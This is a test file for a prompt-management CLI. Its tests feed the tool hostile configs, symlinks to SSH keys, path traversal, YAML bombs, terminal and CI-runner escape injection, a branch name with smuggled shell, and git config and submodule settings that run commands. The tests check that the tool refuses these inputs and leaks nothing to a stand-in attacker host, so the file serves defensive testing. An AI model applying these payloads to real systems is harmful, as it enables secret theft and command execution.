import { execFileSync } from 'node:child_process';
import { rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type Canaries, canaries, expectNothingGained } from '../support/canaries.ts';
import type { CliResult } from '../support/cli.ts';
import { runHere } from '../support/command-line.ts';
import { isolatedGit, temporaryFolder } from '../support/git-repository.ts';
import { pullRequestEvent } from '../support/github-events.ts';
import { promptText, type TemporaryWorkspace, temporaryWorkspace } from '../support/temporary-workspace.ts';

let trap: Canaries;
beforeEach(async () => {
  trap = await canaries();
});
afterEach(() => trap.close());

/** Runs commands one after the other as a job would that holds every secret; gives how each ended by its words. */
async function runAll(
  workspace: { readonly path: string },
  commands: readonly string[],
  extra: Readonly<Record<string, string>> = {},
): Promise<ReadonlyMap<string, CliResult>> {
  const env = { ...trap.variables, HOME: trap.home, GITHUB_ACTIONS: 'true', ...extra };
  const results = new Map<string, CliResult>();
  for (const command of commands) results.set(command, await runHere(command.split(' '), { cwd: workspace.path, env }));
  expectNothingGained(trap, [...results.values()]);
  return results;
}

const suite = (prompts: string, dataset = 'cases.jsonl') =>
  `suite: leak\nprompts: [${prompts}]\ndataset: ${dataset}\nscorers: [{ id: polite, uses: contains, value: a }]\ngate: { polite: { mean: ">= 0.01" } }\n`;
const CASES = '{"inputs":{"question":"Who?"}}\n';

describe('a config that wants secrets sent away', () => {
  test('gets none: not the token, not a key, not an ID token', async () => {
    const workspace = temporaryWorkspace({
      'promptlane.config.yaml': `registry: { url: "${trap.attacker}" }
models:
  providers:
    openai: { kind: openai, baseUrl: "${trap.attacker}/v1" }
    own: { kind: openai, baseUrl: "${trap.attacker}/v1", apiKeyEnv: AWS_SECRET_ACCESS_KEY }
    exec: { kind: exec, baseUrl: "${trap.attacker}/v1" }
`,
      'prompts/own.prompt.yaml': promptText('You leak.').replace('openai/gpt-4o-mini', 'own/model'),
      'prompts/exec.prompt.yaml': promptText('You run.').replace('openai/gpt-4o-mini', 'exec/touch'),
      'evals/leak.eval.yaml': suite('own, greet'),
      'evals/cases.jsonl': CASES,
    });
    const withToken = await runAll(workspace, [
      'plan',
      'ci',
      'verify --online',
      'push',
      'history development',
      'breaking --against production',
      'doctor --json',
    ]);
    const withGrant = await runAll(workspace, ['plan', 'promote --all --to staging'], { PROMPTLANE_TOKEN: '' });
    const asked = await runAll(workspace, ['eval', 'run own --var question=a', 'run greet --var question=a', 'run exec --var question=a']);
    expect(withToken.get('plan')).toMatchObject({ exitCode: 8, stderr: expect.stringContaining('[token-withheld]') });
    expect(withGrant.get('plan')).toMatchObject({ exitCode: 8, stderr: expect.stringContaining('[token-withheld]') });
    expect(asked.get('run own --var question=a')).toMatchObject({ exitCode: 8, stderr: expect.stringContaining('[key-withheld]') });
    expect(asked.get('run greet --var question=a')).toMatchObject({ exitCode: 8 });
    expect(asked.get('run exec --var question=a')).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('"exec"') });
    for (const line of trap.heard()) expect(line).toContain('/healthz');
  });

  test.each([
    ['a variable in an address', `registry: { url: "https://$${''}{OPENAI_API_KEY}.example.com" }\n`],
    ['a base config', 'extends: ~/.ssh/id_rsa\n$import: ./promptlane.config.js\n'],
    ['a tag that is code', 'prompts: !!js/function "function () { return 1 }"\n'],
    ['roots outside', 'prompts: ../home/.ssh\nevals: /etc\n'],
    ['cassettes outside', 'cassettes: ../home\nevals: ../../home\n'],
    ['a scorer that is a program', 'scorers: { attack: { exec: ./git } }\n'],
    ['a prototype', '__proto__: { registry: { url: "http://0.0.0.0:1" } }\nconstructor: { prototype: { a: 1 } }\n'],
  ])('%s is text, or an error', async (_what, text) => {
    const workspace = temporaryWorkspace({ 'promptlane.config.yaml': text });
    await runAll(workspace, ['ci', 'config explain', 'eval']);
    expect(trap.heard()).toEqual([]);
  });

  test('of a suite that names programs and addresses is refused', async () => {
    const scorers = ['exec, command: ./git', 'js, file: ./attack.js', 'http, url: "http://0.0.0.0:1"', 'judge, exec: true'];
    const workspace = temporaryWorkspace(
      Object.fromEntries(
        scorers.flatMap((scorer, index) => [
          [`evals/s${index}.eval.yaml`, suite('greet').replace('contains, value: a', scorer).replace('leak', `s${index}`)],
          ['evals/cases.jsonl', CASES],
        ]),
      ),
    );
    const results = await runAll(workspace, ['check', ...scorers.map((_, index) => `eval s${index}`)]);
    for (const { exitCode } of results.values()) expect(exitCode).toBe(3);
  });
});

describe('attack 47: a link out of the repository', () => {
  test.each([
    ['a prompt', 'prompts/linked.prompt.yaml', 'check'],
    ['a partial', 'prompts/shared/tone.partial.md', 'render greet --var question=a'],
    ['the lockfile', 'promptlane.lock', 'verify'],
    ['the config', 'promptlane.config.yaml', 'check'],
    ['a config of another name', '.promptlanerc', 'check'],
    ['a dataset', 'evals/cases.jsonl', 'eval'],
    ['a cassette', 'cassettes/leak.jsonl', 'eval --cassette cassettes/leak.jsonl'],
    ['a suite', 'evals/linked.eval.yaml', 'check'],
    ['a folder of prompts', 'prompts/more', 'check'],
    ['a folder of cassettes', 'cassettes', 'eval --cassette cassettes/id_rsa'],
  ])('as %s is not read', async (_what, file, decisive) => {
    const { files, target } = linkTo(file);
    const workspace = temporaryWorkspace(files);
    for (const gone of [file, ...(file === '.promptlanerc' ? ['promptlane.config.yaml'] : [])]) {
      rmSync(join(workspace.path, gone), { force: true, recursive: true });
    }
    symlinkSync(target, join(workspace.path, file));
    workspace.commit({}, 'Link');
    const others = ['ci --against HEAD', 'hook run', 'diff greet@git:HEAD greet@index'];
    const results = await runAll(workspace, [decisive, ...others], { OPENAI_API_KEY: '' });
    const { exitCode, stdout = '', stderr = '' } = results.get(decisive) ?? {};
    // A linked folder of prompts is no part of the project; everything else was asked for.
    if (file === 'prompts/more') expect(stdout).toContain('4 files');
    else {
      expect(stdout + stderr).toContain('outside');
      expect(exitCode).not.toBe(0);
    }
  });

  function linkTo(file: string): { files: Record<string, string>; target: string } {
    const files = {
      'evals/leak.eval.yaml': suite('greet'),
      'evals/cases.jsonl': CASES,
      'cassettes/other.jsonl': '',
    };
    const isFolder = !/\.[a-z]+$/.test(file);
    return { files, target: join(trap.home, isFolder ? '.ssh' : '.ssh/id_rsa') };
  }

  test('by a path that leaves is not read either', async () => {
    const workspace = temporaryWorkspace({
      'evals/up.eval.yaml': suite('greet', '../../../home/.ssh/id_rsa.jsonl'),
      'evals/root.eval.yaml': suite('greet', '/etc/passwd.jsonl').replace('leak', 'root'),
      'prompts/ref.prompt.yaml': `${promptText('You refer.')}output: { schema: { $ref: "file://${trap.home}/.ssh/id_rsa" } }\n`,
      'prompts/url.prompt.yaml': `${promptText('You refer.')}output: { schema: { $ref: "${trap.attacker}/schema.json" } }\n`,
      'prompts/include.prompt.yaml': promptText(`You include. {% render "../../home/.ssh/id_rsa" %} {% include "${trap.home}/.npmrc" %}`),
    });
    await runAll(workspace, ['check', 'eval leak', 'eval root', 'lock', 'render ref --var question=a', 'codegen']);
    expect(trap.heard()).toEqual([]);
  });
});

describe('attack 49: what is too much', () => {
  const bombs: [string, Record<string, string>][] = [
    ['aliases', { 'prompts/bomb.prompt.yaml': aliasBomb() }],
    ['depth', { 'prompts/bomb.prompt.yaml': `messages: ${'['.repeat(5000)}${']'.repeat(5000)}\n` }],
    ['a long line', { 'prompts/bomb.prompt.yaml': `description: ${'a'.repeat(3_000_000)}\n` }],
    ['a config of aliases', { 'promptlane.config.yaml': aliasBomb() }],
    ['a lockfile of aliases', { 'promptlane.lock': aliasBomb() }],
    ['a lockfile of depth', { 'promptlane.lock': `environments: ${'{a: '.repeat(3000)}1${'}'.repeat(3000)}\n` }],
    [
      'a loop',
      { 'prompts/greet.prompt.yaml': promptText('{% for a in (1..1000000) %}{% for b in (1..1000000) %}x{% endfor %}{% endfor %}') },
    ],
    [
      'a pattern',
      { 'evals/p.eval.yaml': suite('greet').replace('contains, value: a', "regex, pattern: '(a*)*(a*)*\\1'"), 'evals/cases.jsonl': CASES },
    ],
  ];

  test.each(bombs)('%s ends with a finding, soon', async (_what, files) => {
    const workspace = temporaryWorkspace(files);
    const results = await runAll(workspace, ['ci --against HEAD', 'render greet --var question=a']);
    expect([...results.values()].some(({ exitCode }) => exitCode !== 0)).toBe(true);
  });

  function aliasBomb(): string {
    const levels = Array.from(
      { length: 40 },
      (_, level) =>
        `l${level}: &l${level} [${Array(9)
          .fill(level === 0 ? 'x' : `*l${level - 1}`)
          .join(', ')}]\n`,
    );
    return levels.join('');
  }
});

describe('attack 22: text that speaks to a terminal or to the runner of the job', () => {
  const ESC = '\u001b';
  const EVIL = `${ESC}]0;owned\u0007${ESC}[2J\r::set-output name=a::b\n::add-mask::greet\n##[error]x\n::stop-commands::t\u202e\u2066`;

  test('reaches neither out of names, keys, texts, branches, authors and commit messages', async () => {
    const workspace = temporaryWorkspace({ 'evals/leak.eval.yaml': suite('greet'), 'evals/cases.jsonl': CASES });
    workspace.git('checkout', '-q', '-b', 'x;$(touch$IFS.ran)\u202e"');
    workspace.git('config', 'user.name', 'Eve ::error::x');
    workspace.write({
      [`prompts/a\n::error::x${ESC}[31m.prompt.yaml`]: `${EVIL}: 1\n`,
      'prompts/keys.prompt.yaml': `${JSON.stringify(EVIL)}: 1\n${promptText(JSON.stringify(EVIL).slice(1, -1))}`,
      'prompts/greet.prompt.yaml': `description: ${JSON.stringify(EVIL)}\ntags: [${JSON.stringify(EVIL)}]\n${promptText(`You obey.\n      ::set-output name=a::b\n      ##[add-mask]x`)}`,
      [`evals/${ESC}[1mb\n::warning::y.eval.yaml`]: suite(JSON.stringify(EVIL), JSON.stringify(EVIL)),
    });
    workspace.commit({}, `Obey\n\n::set-output name=a::b\n${ESC}[2J`);
    const results = await runAll(workspace, [
      'check',
      'check --format github',
      'ls',
      'ls --json',
      'diff greet@git:HEAD~1 greet@git:HEAD',
      'ci --against HEAD~1',
      'ci --against HEAD~1 --json',
      'log greet',
      'hook run',
      'breaking --against HEAD~1 --format github',
      'render greet --var question=a',
      'show greet',
      'eval',
      'status',
      'doctor',
    ]);
    for (const [command, { stdout, stderr }] of results) {
      const shown = `${stdout}\n${stderr}`;
      expect(shown, command).not.toMatch(/[\u001b\u0007\u202e\u2066]/);
      const orders = shown.split(/[\r\n]/).filter((line) => /^\s*::|##\[/.test(line) && !/^::(?:error|warning|notice) file=/.test(line));
      expect(orders, command).toEqual([]);
    }
  });
});

describe('a repository inside the repository', () => {
  /** Git's own settings, where a clone or an archive can bring them along. */
  function hostile(workspace: TemporaryWorkspace, folder: string): void {
    const env = isolatedGit();
    const git = (...args: string[]) => execFileSync('git', args, { cwd: workspace.path, env, stdio: 'pipe' });
    for (const [key, value] of [
      ['core.bare', 'false'],
      ['core.worktree', join(workspace.path, 'prompts')],
      ['core.fsmonitor', `${trap.command('fsmonitor')}; false`],
      ['filter.attack.clean', `${trap.command('clean')}; cat`],
      ['filter.attack.smudge', `${trap.command('smudge')}; cat`],
      ['diff.attack.textconv', trap.command('textconv')],
      ['core.sshCommand', trap.command('ssh')],
    ] as const) {
      git('-C', folder, 'config', key, value);
    }
  }

  const READS = ['ci --against HEAD', 'log greet', 'hook run', 'lock', 'diff greet@git:HEAD greet@index', 'doctor'];

  test('that looks bare has none of its settings obeyed', async () => {
    const workspace = temporaryWorkspace({ '.gitattributes': '* filter=attack diff=attack\n' });
    workspace.git('init', '--quiet', '--bare', 'prompts/bare');
    hostile(workspace, 'prompts/bare');
    workspace.commit({ 'prompts/bare/prompts/greet.prompt.yaml': promptText('You hide.') });
    await runAll(workspace, [...READS, '-C prompts/bare check', '-C prompts/bare lock']);
  });

  test('that is a submodule with a command for an address is not entered', async () => {
    const workspace = temporaryWorkspace({
      '.gitmodules': `[submodule "a"]\n\tpath = prompts/a\n\turl = "ext::sh -c ${trap.command('ext')}"\n\tupdate = "!${trap.command('update')}"\n`,
    });
    const commit = workspace.git('rev-parse', 'HEAD');
    workspace.git('update-index', '--add', '--cacheinfo', `160000,${commit},prompts/a`);
    workspace.git('commit', '-q', '-m', 'Submodule');
    await runAll(workspace, READS);
  });

  test('with objects that are elsewhere gives none of them away', async () => {
    const workspace = temporaryWorkspace();
    workspace.write({ '.git/objects/info/alternates': `${trap.home}/.ssh\n/nowhere\n`, '.git/info/grafts': 'x\n' });
    await runAll(workspace, READS);
  });
});

describe('a committed state folder', () => {
  test('answers no eval, and leads to no file', async () => {
    const workspace = temporaryWorkspace({
      '.gitignore': '',
      'evals/leak.eval.yaml': suite('greet'),
      'evals/cases.jsonl': CASES,
      '.promptlane/cache/answers/answers-0001.jsonl': '{}\n',
      '.promptlane/serve.json': JSON.stringify({
        url: 'http://localhost:1',
        project: 'default',
        tokenFile: `${trap.home}/.ssh/id_rsa`,
        pid: 1,
      }),
    });
    const results = await runAll(workspace, ['eval', 'plan', 'status', 'doctor'], {
      PROMPTLANE_TOKEN: '',
      ACTIONS_ID_TOKEN_REQUEST_URL: '',
    });
    expect(results.get('eval')).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('[state-foreign]') });
    expect(results.get('plan')).toMatchObject({ exitCode: 8, stderr: expect.stringContaining('holds no token') });
  });
});

describe('a change of a stranger', () => {
  const fork = { headSha: 'f'.repeat(40), isFork: true };

  test.each([
    ['pull_request', pullRequestEvent(fork), 4, '1 could not be judged'],
    ['pull_request_target', pullRequestEvent(fork, 'pull_request_target'), 8, 'untrusted-evals'],
  ])('on %s asks nobody anything, not even this machine, whatever the job holds', async (_what, { name, payload }, exitCode, said) => {
    const here = trap.attacker.replace('0.0.0.0', '127.0.0.1');
    const workspace = temporaryWorkspace({
      'promptlane.config.yaml': `registry: { url: "${here}" }\nmodels: { providers: { openai: { kind: openai, baseUrl: "${here}/v1" } } }\n`,
    });
    workspace.git('checkout', '-q', '-b', 'better');
    workspace.commit({ 'evals/leak.eval.yaml': suite('greet'), 'evals/cases.jsonl': CASES, 'cassettes/leak.jsonl': '' }, 'Evaluate');
    const events = temporaryFolder();
    events.write({ 'event.json': JSON.stringify(payload) });
    const variables = {
      GITHUB_EVENT_NAME: name,
      GITHUB_EVENT_PATH: join(events.path, 'event.json'),
      GITHUB_SHA: 'b'.repeat(40),
      PROMPTLANE_REGISTRY_URL: here,
      PROMPTLANE_KEY_HOSTS: '127.0.0.1',
    };
    const results = await runAll(workspace, ['ci --against main', 'ci --against main --json'], variables);
    expect(results.get('ci --against main')).toMatchObject({ exitCode });
    expect(JSON.parse(results.get('ci --against main --json')?.stdout ?? '')).toMatchObject({ restricted: true });
    expect(results.get('ci --against main --json')?.stdout).toContain(said);
    expect(trap.heard()).toEqual([]);
  });
});
